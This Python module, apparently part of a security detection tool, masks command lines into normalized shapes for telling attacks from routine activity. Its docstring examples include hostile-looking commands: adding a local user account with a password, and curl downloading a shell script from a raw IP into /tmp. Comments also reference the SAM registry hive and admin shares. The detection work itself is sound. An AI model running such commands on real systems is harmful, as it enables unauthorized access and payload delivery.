r"""The masked shape of a command line: what separates an attack from routine.

The program's base name, options and telling words stay; values become `<path>`, `<ip>`, `<url>`,
`<num>`, `<hex>`, `<guid>`, `<b64>` or `<str>`. A path shows its extension and, in well-known
places, where it is. Examples are in docs/names.md.
"""

import re
from collections.abc import Callable
from functools import lru_cache
from typing import Any, TypeVar, cast

from graphad.models.command_words import (
    ALL_WORDS,
    CODE_OPTIONS,
    EXTENSIONS,
    NO_SUBCOMMAND,
    PLACES,
    POWERSHELL_OPTIONS,
    POWERSHELLS,
    SHELLS,
    TOP_FOLDERS,
    WORDS,
    WRAPPERS,
)
from graphad.models.name_masks import mask
from graphad.models.name_paths import path, registry

MAX_SHAPE = 200
_MAX_TEXT = 8192  # characters looked at
_MAX_TOKENS = 32
_MAX_CODE_WORDS = 12
_DEPTH = 3

# A token: quoted and bare pieces without a blank between, or an operator. A backslash before the
# quote that ends a token is part of a Windows folder ("C:\dir\" x), elsewhere it escapes.
_TOKEN = re.compile(
    r"""(?P<op>&&|\|\||[|;&]|[0-9]?>>?(?:&[0-9])?|<)"""
    r"""|(?P<text>(?:"(?:[^"\\]|\\"(?=\S)|\\(?!"(?=\S)))*+"?|(?<![^\s=(:,])'[^']*+'?"""
    r"""|[^\s"|;&<>])++)""",
    re.DOTALL,
)
# An unquoted program with blanks in its path, as Windows allows.
_SPACED = re.compile(r"[A-Za-z]:\\[^\"<>|*?\r\n]{0,260}?\.(?:exe|com|bat|cmd|scr)(?=\s|$)", re.I)
_PLAIN = re.compile(r"[A-Za-z][A-Za-z_-]{0,30}[A-Za-z]|[A-Za-z]")
_OPTION = re.compile(r"--?[A-Za-z?][A-Za-z_-]{0,31}[0-9]{0,2}|--?|-[0-9]")
_KEYED = re.compile(r"((?:--?|/)?[A-Za-z_][A-Za-z0-9_.-]{0,31})([=:])(?![\\/]|$)(.*)", re.DOTALL)
_KEYED_PATH = re.compile(r"((?:--?)?[A-Za-z_][A-Za-z0-9_.-]{1,31})(=|:(?!//))(.*)", re.DOTALL)
_SWITCH = re.compile(r"/[A-Za-z?][A-Za-z0-9_-]{0,23}")
_URL = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{1,12}://\S*")
_IP = re.compile(
    r"(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?P<rest>[:/][0-9]{1,5})?"
    r"|\[?[0-9A-Fa-f]{0,4}:(?:[0-9A-Fa-f]{0,4}:){1,6}[0-9A-Fa-f.]{0,15}(?:%\w{1,15})?\]?(?::[0-9]{1,5})?"
)
_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,:][0-9]+)*(?:[smhdkKMGTB%]|ms)?")
_HEX = re.compile(r"0x[0-9A-Fa-f]+|(?=[A-Fa-f]*+[0-9])[0-9A-Fa-f]{8,}")
_GUID = re.compile(r"[{(]?[0-9A-Fa-f]{8}(?:-[0-9A-Fa-f]{4}){3}-[0-9A-Fa-f]{12}[)}]?")
_BASE64 = re.compile(r"(?=[^0-9]*+[0-9])(?=[^a-z]*+[a-z])[A-Za-z0-9+/_-]{20,}={0,2}")
_HOST = re.compile(r"(?:[A-Za-z0-9_-]{1,63}\.){1,8}[A-Za-z]{2,18}\.?(?::[0-9]{1,5})?")
_MODE = re.compile(r"[ugoa]{0,4}[+=][rwxXst]{1,6}")  # chmod +x
_ACCOUNTS = frozenset(("u", "user", "ru", "p", "rp", "password", "username"))
_CMDLET = re.compile(r"[A-Z][a-z]{1,14}-[A-Z][A-Za-z]{1,30}")
_EXTENSION = re.compile(r"\.([A-Za-z][A-Za-z0-9]{0,7}|7z)$")
_CODE = re.compile(
    r""""[^"]*+"?|'[^']*+'?|\$[A-Za-z_]\w*+|(?P<word>[A-Za-z_][A-Za-z_.-]*+)(?![0-9])|\w++"""
)


_F = TypeVar("_F", bound=Callable[..., Any])
_SHORT = 64  # characters of a token that is remembered


def _remembered(function: _F) -> _F:
    """Remember what `function` said of short tokens: command lines repeat each other's."""
    known = lru_cache(maxsize=1 << 15)(function)

    def found(text: str, *more: object) -> Any:
        return known(text, *more) if len(text) <= _SHORT else function(text, *more)

    return cast(_F, found)


def _path(text: str) -> str:
    name = path(text)
    if name in ("/dev/null", "nul"):
        return name
    extension = _EXTENSION.search(name)
    ending = f".{extension[1].lower()}" if extension else ""
    if name[:2] == "\\\\" and "$" in name:  # an administrative share: admin$, c$
        return "<path:share>"
    for start, place, keeps in PLACES:
        if name.startswith(start):
            if keeps:
                last = name[max(name.rfind("\\"), name.rfind("/")) + 1 :]
                if last and len(last) <= 32 and not any(c.isspace() for c in last):
                    return f"<path:{place}/{last}>"
            return f"<path:{place}{':' + ending if ending else ''}>"
    return f"<path:{ending}>" if ending else "<path>"


def _registry(text: str) -> str:
    """Return the hive of a key and its last part, if a word: hklm/sam, hkcu/run."""
    hive, _, rest = registry(text).partition("\\")
    last = rest.rstrip("\\").rpartition("\\")[2]
    return f"<reg:{hive}/{last}>" if _PLAIN.fullmatch(last) else f"<reg:{hive}>"


@_remembered
def _value(text: str, keeps_words: bool = False) -> str:
    """Return the mask of one argument."""
    plain = _PLAIN.fullmatch(text)
    if plain and (keeps_words or text.lower() in WORDS):
        return text.lower()
    if not text:
        return "<str>"
    if _MODE.fullmatch(text):
        return text
    if plain:
        return text.lower() if _CMDLET.fullmatch(text) else "<str>"
    if _URL.match(text):
        extension = _EXTENSION.search(text.split("?", 1)[0])
        known = extension and extension[1].lower() in EXTENSIONS
        return f"<url:.{extension[1].lower()}>" if extension and known else "<url>"
    if match := _IP.fullmatch(text):
        return f"<ip>{match['rest'][0]}<num>" if match["rest"] else "<ip>"
    if _GUID.fullmatch(text):
        return "<guid>"
    if _HEX.fullmatch(text) and not text.isdecimal():
        return "<hex>"
    if _NUMBER.fullmatch(text):
        return "<num>"
    if text[0] == "@" and len(text) > 1:
        return "@" + _value(text[1:])
    if text[0] not in "/\\.~" and _BASE64.fullmatch(text):
        return "<b64>"
    head, comma, tail = text.partition(",")
    if comma and ("\\" in head or _EXTENSION.search(head)):  # rundll32 x.dll,Entry
        return f"{_value(head)},{_value(tail.strip(), keeps_words) if tail else ''}"
    if text[:5].lower() in ("hklm\\", "hkcu\\", "hkcr\\", "hkey_") or text[:4].lower() == "hku\\":
        return _registry(text)
    blank = any(c.isspace() for c in text)
    if ("\\" in text or "/" in text or text[0] == "~" or text[1:2] == ":") and not (
        blank and text[1:2] != ":" and text[0] not in "/\\"
    ):
        return _path(text)
    extension = _EXTENSION.search(text)
    if extension and not blank and extension[1].lower() in EXTENSIONS:
        return f"<path:.{extension[1].lower()}>"
    if not blank and _HOST.fullmatch(text):
        return "<host>"
    if blank:
        words = text.lower().split(None, 4)
        if len(words) <= 4 and all(word in WORDS for word in words):
            return "-".join(words)
    return "<str>"


def _code(text: str) -> str:
    """Return the words of program text, strings and variables left out."""
    words: list[str] = []
    for match in _CODE.finditer(text):
        word = (match["word"] or "").strip(".-")
        if 2 <= len(word) <= 40 and (not words or words[-1] != word.lower()):
            words.append(word.lower())
            if len(words) == _MAX_CODE_WORDS:
                break
    return f"{{{' '.join(words)}}}"


@_remembered
def _program(text: str) -> str:
    name = path(text.rstrip(":"))
    name = name[max(name.rfind("\\"), name.rfind("/")) + 1 :].lower()
    name = mask(name.removesuffix(".exe"))
    return name[:48] or "<str>"


def _unquote(text: str) -> str:
    if text[0] == "'" and len(text) > 1 and text[-1] == "'":
        return text[1:-1]
    return text.replace('\\"', '"').strip('"') if text[0] == '"' else text.replace('"', "")


@_remembered
def _option(text: str, shell: str) -> str | None:
    """Return the canonical form of an option, its value masked; None if `text` is not one."""
    if shell in POWERSHELLS and text[0] in "-/\u2013\u2014":
        key = text[1:].lower()
        for full, short in POWERSHELL_OPTIONS:
            if key and full.startswith(key):
                return short
    if text[0] == "/" and text[1:].partition("/")[0] in TOP_FOLDERS:
        return None
    if _SWITCH.fullmatch(text):
        return text.lower()
    if _OPTION.fullmatch(text):
        return text
    match = _KEYED.fullmatch(text) or _KEYED_PATH.fullmatch(text)
    if match and len(match[1]) > 1 and not _IP.fullmatch(text) and not _URL.match(text):
        key = match[1].lower() if match[1][0] == "/" else match[1]
        if key.lstrip("-/").lower() in _ACCOUNTS:
            return f"{key}{match[2]}<str>"
        return f"{mask(key)}{match[2]}{_value(_unquote(match[3])) if match[3] else ''}"
    if text[0] == "-" and len(text) > 2 and text[1].isalpha():
        return f"{text[:2]}{_value(text[2:])}"
    return None


def _shape(text: str, depth: int) -> list[str]:
    out: list[str] = []
    program = ""  # empty where a program's name comes next
    fresh = False  # nothing since the program's name
    wrapped = False  # a program that runs the one that follows stands before
    code = ""  # the next argument is program text: "code", or "shell"
    start = text.lstrip()
    if (spaced := _SPACED.match(start)) and " " in spaced[0]:
        text = f'"{spaced[0]}"{start[spaced.end() :]}'
    for match in _TOKEN.finditer(text):
        if len(out) >= _MAX_TOKENS:
            break
        if match["op"]:
            out.append(match["op"])
            if match["op"][-1] in "|;&" and ">" not in match["op"]:
                program, code = "", ""
            continue
        raw = match["text"]
        quoted = raw[0] in "\"'"
        token = _unquote(raw)
        if not token:
            out.append("<str>")
            continue
        if code == "code" or (code and quoted and not _is_program(token)):
            if code == "code" and not quoted:
                token = text[match.start() :]
            inner = [_code(token)] if code == "code" else _shape(token, depth + 1)
            out.extend(inner if depth < _DEPTH else ["<str>"])
            if code == "code" and not quoted:
                break
            code = ""
            continue
        if code:  # cmd /c dir: a command line begins here
            program, code = "", ""
        if not program:
            assignment = _KEYED.fullmatch(token) if "=" in token else None
            if assignment and not quoted:
                out.append(f"{mask(assignment[1])}={_value(assignment[3])}")
                continue
            option = _option(token, "") if wrapped else None
            if option is not None or (wrapped and token[0].isdigit()):
                out.append(option or "<num>")
                continue
            program = _program(token)
            out.append(program)
            fresh = program not in NO_SUBCOMMAND
            wrapped = program in WRAPPERS
            if wrapped:
                program = ""
            continue
        option = None if quoted and " " in token else _option(token, program)
        if option is not None:
            out.append(option)
            fresh = False
            code = _takes(program, option, depth)
            continue
        word = fresh and not quoted and _PLAIN.fullmatch(token) is not None and len(token) <= 16
        out.append(_value(token, word or program in ALL_WORDS))
        fresh = False
    return out


def _is_program(token: str) -> bool:
    return " " not in token or (_SPACED.fullmatch(token) is not None and token.count(":\\") == 1)


def _takes(program: str, option: str, depth: int) -> str:
    """Return what kind of program text follows `option`: "shell", "code" or nothing."""
    if program == "cmd" and option in ("/c", "/k", "/r"):
        return "shell"
    if program in SHELLS and option[:1] == "-" and option[-1:] == "c" and option[:2] != "--":
        return "shell"
    base = program.split("<")[0].rstrip("23")
    return "code" if option in CODE_OPTIONS.get(base, ()) else ""


def command_shape(command_line: str) -> str:
    r"""Return the shape of a command line: at most 200 characters and 32 tokens; raises nothing.

    >>> command_shape(r'"C:\Windows\System32\cmd.exe" /c net user bob S3cret! /add')
    'cmd /c net user <str> <str> /add'
    >>> command_shape("curl -s http://203.0.113.7/x.sh -o /tmp/x")
    'curl -s <url:.sh> -o <path:temp>'
    """
    text = command_line[:_MAX_TEXT]
    if "&" in text:  # some exports leave the XML escapes in
        text = text.replace("&gt;", ">").replace("&lt;", "<").replace("&amp;", "&")
    tokens = _shape(text, 0)
    shape = " ".join(tokens)
    if len(tokens) < _MAX_TOKENS and len(shape) <= MAX_SHAPE:
        return shape
    shape = " ".join(tokens[:_MAX_TOKENS])
    if len(shape) > MAX_SHAPE - 7:
        shape = shape[: MAX_SHAPE - 7]
        shape = shape[: max(shape.rfind(" "), 0)] or shape
    return f"{shape} <more>"
